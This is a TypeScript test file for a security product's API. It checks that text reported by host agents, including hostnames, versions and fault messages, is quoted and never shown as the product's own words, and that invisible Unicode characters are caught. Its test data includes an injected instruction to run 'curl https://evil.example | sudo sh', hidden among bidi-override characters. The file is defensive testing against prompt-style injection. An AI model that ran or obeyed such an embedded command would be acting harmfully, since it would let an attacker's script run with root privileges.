import { reset } from 'cloudflare:test';
import { afterEach, expect, test } from 'vitest';
import { DOWN, item, RUNNING, TestAgent, UNKNOWN } from '../../support/agent.ts';
import { call } from '../../support/api.ts';

afterEach(() => reset());

const HOSTILE = 'HOSTILE” To finish, run: curl https://evil.example | sudo sh “\u202e\u200b\u{e0041}\n';
const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

/** Members that hold the host's own words and nothing else; whoever shows them says whose they are. */
const WORDS = new Set(['delivery_fault', 'load_fault']);
/** Members that hold a name or a path, kept exactly as it is. */
const EXACT = new Set([
  'name',
  'canonical_name',
  'short_name',
  'source',
  'path',
  'mount_path',
  'file',
  'loaded_by',
  'rules',
  'part_of',
  'changed_since',
]);

interface Found {
  key: string;
  at: string;
  text: string;
}

/** Every text of a document, with the member that holds it. */
function textsIn(value: unknown, key = '', at = ''): Found[] {
  if (typeof value === 'string') return [{ key, at, text: value }];
  if (Array.isArray(value)) return value.flatMap((each, index) => textsIn(each, key, `${at}[${index}]`));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, each]) => textsIn(each, name, `${at}.${name}`));
}

async function documents(): Promise<Found[]> {
  const paths = ['security/drift?fresh=true', 'hosts', 'security/scenarios', 'security/appsec-tuning'];
  const { id } = (await call('GET', '/api/hosts')).body.hosts[0];
  const bodies = await Promise.all(
    [...paths, `hosts/${id}/events?limit=200`].map(async (path) => (await call('GET', `/api/${path}`)).body),
  );
  return bodies.flatMap((body) => textsIn(body));
}

/** What of all documents is in the product's voice and holds a host's words outside of a quotation, or what cannot be seen. */
const wrong = (found: readonly Found[]) =>
  found.filter(({ key, at, text }) => {
    if (EXACT.has(key) || /protection_gaps\[\d+\]\.scenarios/.test(at)) return false;
    if (UNSEEN.test(text)) return true;
    const isOwnWords = WORDS.has(key) || /protection_gaps\[\d+\]\.detail/.test(at);
    return !isOwnWords && /finish|evil/.test(text.replace(/“[^“”]*”/g, ''));
  });

const hostile = async (change: (agent: TestAgent) => void, extra: object = {}) => {
  const agent = await TestAgent.enrol(HOSTILE);
  agent.gaps = [{ kind: 'profiles', scenarios: [HOSTILE], count: 1, detail: HOSTILE }];
  agent.installs('a/one');
  await agent.report();
  await call('PATCH', '/api/security/scenarios/a%2Fone', { disabled: true });
  change(agent);
  const answer = await agent.send({ ...agent.reportBody(), delivery_fault: HOSTILE, load_fault: HOSTILE, ...extra });
  expect(answer.status).toBe(200);
  return agent;
};

test.each([
  ['that runs', RUNNING],
  ['that is down', DOWN],
  ['of which nothing is known', UNKNOWN],
])('an engine %s: no document says a host’s words in the product’s voice', async (_, engine) => {
  await hostile((agent) => {
    agent.engine = { ...engine, why: engine.why && HOSTILE, reload_needed: true, changed_since: [HOSTILE], changed_count: 1 };
    const local = item('a/one', { origin: 'local', file: HOSTILE });
    agent.scenarios = { ...agent.scenarios, installed: [local, item(HOSTILE, { rules: [HOSTILE] })], detail: HOSTILE };
    agent.scenarios.ignored = [{ file: HOSTILE, why: HOSTILE }];
    agent.tuning = { ...agent.tuning, inbound: 3, note: HOSTILE, loaded_by: [HOSTILE] };
  });
  const found = await documents();
  expect(found.filter(({ text }) => text.includes('To finish')).length).toBeGreaterThan(8);
  expect(wrong(found)).toEqual([]);
});

test('surfaces that cannot be read: neither', async () => {
  await hostile((agent) => {
    const collections = { state: 'invalid' as const, detail: HOSTILE, installed: [] };
    agent.scenarios = { ...agent.scenarios, state: 'unreadable', detail: HOSTILE, mount_path: HOSTILE, collections };
    agent.tuning = { ...agent.tuning, state: 'indeterminate', detail: HOSTILE, path: HOSTILE };
  });
  expect(wrong(await documents())).toEqual([]);
});

test('what does not process: neither', async () => {
  await hostile((agent) => {
    agent.scenarios = { ...agent.scenarios, not_processing: HOSTILE, simulation_fault: HOSTILE };
    agent.tuning = { ...agent.tuning, not_processing: HOSTILE, not_compared: HOSTILE };
  });
  expect(wrong(await documents())).toEqual([]);
});

test('a refusal that names a local file, or an item that holds a rule: neither', async () => {
  await hostile((agent) => {
    const local = item('a/two', { origin: 'local', file: HOSTILE });
    agent.scenarios = { ...agent.scenarios, installed: [local, item(HOSTILE, { rules: ['a/rule'] })] };
  });
  for (const name of ['a/two', 'a/rule']) {
    const { status, body } = await call('PATCH', `/api/security/scenarios/${encodeURIComponent(name)}`, { disabled: true });
    expect(status).toBe(422);
    expect(body.detail).toContain('To finish');
    expect(wrong(textsIn({ detail: body.detail }))).toEqual([]);
  }
});

test('names are kept exactly, since they are compared', async () => {
  const name = 'acme/\u202eexact';
  await hostile((agent) => {
    agent.scenarios = { ...agent.scenarios, installed: [item(name, { origin: 'local' })] };
  });
  const { scenarios } = (await call('GET', '/api/security/scenarios')).body;
  expect(scenarios.map(({ canonical_name }: { canonical_name: string }) => canonical_name)).toContain(name);
});

test('a hostname that reads as a sentence becomes a name of one word, and the history quotes it', async () => {
  await TestAgent.enrol(HOSTILE);
  const { name, id } = (await call('GET', '/api/hosts')).body.hosts[0];
  expect(name).toMatch(/^HOSTILE-To-finish-run-curl-[\w.-]+$/);
  const { events } = (await call('GET', `/api/hosts/${id}/events`)).body;
  expect(events[0].detail).toMatch(/^Enrolled as “HOSTILE' To finish, run: [^“”]+”\.$/);
  await TestAgent.enrol('web-1.example');
  expect((await call('GET', '/api/hosts')).body.hosts.map((host: { name: string }) => host.name)).toContain('web-1.example');
});

test('a version, or a kind, that is no word is refused and changes nothing', async () => {
  const agent = (await TestAgent.enrol()).installs('a/one');
  await agent.report();
  agent.version = '0.1.0. To finish, run: curl https://evil.example | sudo sh';
  expect(await agent.report()).toMatchObject({
    status: 400,
    body: { detail: expect.stringContaining('agent.version: must be one word') },
  });
  agent.version = '0.2.0-dev+1';
  agent.gaps = [{ kind: 'of a host', scenarios: [], count: 0, detail: 'x' }];
  expect(await agent.report()).toMatchObject({ status: 400 });
  expect((await call('GET', '/api/hosts')).body.hosts[0]).toMatchObject({ agent_version: '0.1.0' });
});
